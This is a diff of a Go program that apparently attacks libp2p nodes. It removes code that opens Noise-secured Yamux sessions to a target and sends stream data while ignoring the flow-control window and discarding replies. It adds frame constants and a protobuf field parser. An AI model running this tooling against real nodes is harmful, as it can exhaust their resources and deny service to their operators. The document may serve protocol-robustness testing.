@@ -1,40 +1,10 @@
 package main
 
 import (
-	"context"
-	"crypto/rand"
 	"encoding/binary"
-	"net"
 
-	"github.com/libp2p/go-libp2p/core/crypto"
-	"github.com/libp2p/go-libp2p/core/peer"
 	"github.com/libp2p/go-libp2p/core/protocol"
-	libp2pnoise "github.com/libp2p/go-libp2p/p2p/security/noise"
-	ma "github.com/multiformats/go-multiaddr"
-	mss "github.com/multiformats/go-multistream"
 )
-
-func withoutPeer(address ma.Multiaddr) ma.Multiaddr {
-	transport, _ := peer.SplitAddr(address)
-	return transport
-}
-
-// secure negotiates Noise and completes the handshake; what is written to its result is sealed.
-func (a *attack) secure() (net.Conn, error) {
-	if err := mss.SelectProtoOrFail(libp2pnoise.ID, a.conn); err != nil {
-		return nil, err
-	}
-	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
-	if err != nil {
-		return nil, err
-	}
-	transport, err := libp2pnoise.New(libp2pnoise.ID, key, nil)
-	if err != nil {
-		return nil, err
-	}
-	_, target := peer.SplitAddr(a.target)
-	return transport.SecureOutbound(context.Background(), a.conn, target)
-}
 
 // Yamux as the specification has it: 12 bytes of header, big endian.
 const (
@@ -51,6 +21,11 @@ const (
 	flagRST
 )
 
+const (
+	headerSize    = 12
+	initialWindow = 256 << 10
+)
+
 func frame(version, kind byte, flags uint16, stream, length uint32, payload []byte) []byte {
 	out := []byte{version, kind}
 	out = binary.BigEndian.AppendUint16(out, flags)
@@ -63,40 +38,6 @@ func data(stream uint32, flags uint16, payload []byte) []byte {
 	return frame(0, typeData, flags, stream, uint32(len(payload)), payload)
 }
 
-// session is a secured connection that speaks Yamux. What the node sends is thrown away.
-type session struct {
-	*attack
-	conn net.Conn
-	next uint32
-}
-
-func (a *attack) yamux() (*session, error) {
-	conn, err := a.secure()
-	if err != nil {
-		return nil, err
-	}
-	if err := mss.SelectProtoOrFail("/yamux/1.0.0", conn); err != nil {
-		return nil, err
-	}
-	return &session{a, conn, 1}, nil
-}
-
-func (s *session) send(frames ...[]byte) error {
-	for _, one := range frames {
-		if _, err := s.conn.Write(one); err != nil {
-			return over(err)
-		}
-	}
-	return nil
-}
-
-// open opens a stream and proposes a protocol on it, without waiting for the answer.
-func (s *session) open(id protocol.ID) (uint32, error) {
-	stream := s.next
-	s.next += 2
-	return stream, s.send(data(stream, flagSYN, proposal(id)))
-}
-
 // proposal is the header of multistream-select and one protocol.
 func proposal(id protocol.ID) []byte {
 	return append(message("/multistream/1.0.0"), message(string(id))...)
@@ -106,23 +47,31 @@ func message(text string) []byte {
 	return append(binary.AppendUvarint(nil, uint64(len(text)+1)), text+"\n"...)
 }
 
-// write sends bytes on a stream in frames of 16 KB, whatever its window says.
-func (s *session) write(stream uint32, bytes []byte) error {
-	for len(bytes) > 0 {
-		n := min(len(bytes), 16<<10)
-		if err := s.send(data(stream, 0, bytes[:n])); err != nil {
-			return err
-		}
-		bytes = bytes[n:]
-	}
-	return nil
-}
-
 // Protobuf, by hand: a field with a length.
 func field(number uint64, bytes []byte) []byte {
 	out := binary.AppendUvarint(nil, number<<3|2)
 	out = binary.AppendUvarint(out, uint64(len(bytes)))
 	return append(out, bytes...)
+}
+
+// fields gives each field that has a length to `each`, until one is none: a number, other kinds or the end.
+func fields(bytes []byte, each func(number uint64, contents []byte)) {
+	for len(bytes) > 0 {
+		key, n := binary.Uvarint(bytes)
+		size, m := binary.Uvarint(bytes[max(n, 0):])
+		if n <= 0 || m <= 0 {
+			return
+		}
+		if key&7 == 0 { // a varint, whose value was read as a size
+			bytes = bytes[n+m:]
+			continue
+		}
+		if key&7 != 2 || size > uint64(len(bytes)-n-m) {
+			return
+		}
+		each(key>>3, bytes[n+m:n+m+int(size)])
+		bytes = bytes[n+m+int(size):]
+	}
 }
 
 func lengthPrefixed(bytes []byte) []byte {
